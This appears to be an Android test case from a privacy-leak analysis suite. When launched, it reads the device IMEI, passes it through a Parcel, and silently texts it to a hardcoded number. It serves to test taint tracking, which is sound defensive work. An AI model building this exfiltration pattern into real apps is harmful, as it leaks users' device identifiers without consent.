package cn.privlens.suite.parcel_order;

import android.app.Activity;
import android.os.Bundle;
import android.os.Parcel;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Parcel p = Parcel.obtain();
        p.writeString("head");
        p.writeString(((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId());
        p.setDataPosition(0);
        String first = p.readString();
        String second = p.readString();
        p.recycle();
        SmsManager.getDefault().sendTextMessage("10690000", null, second, null, null);
    }
}
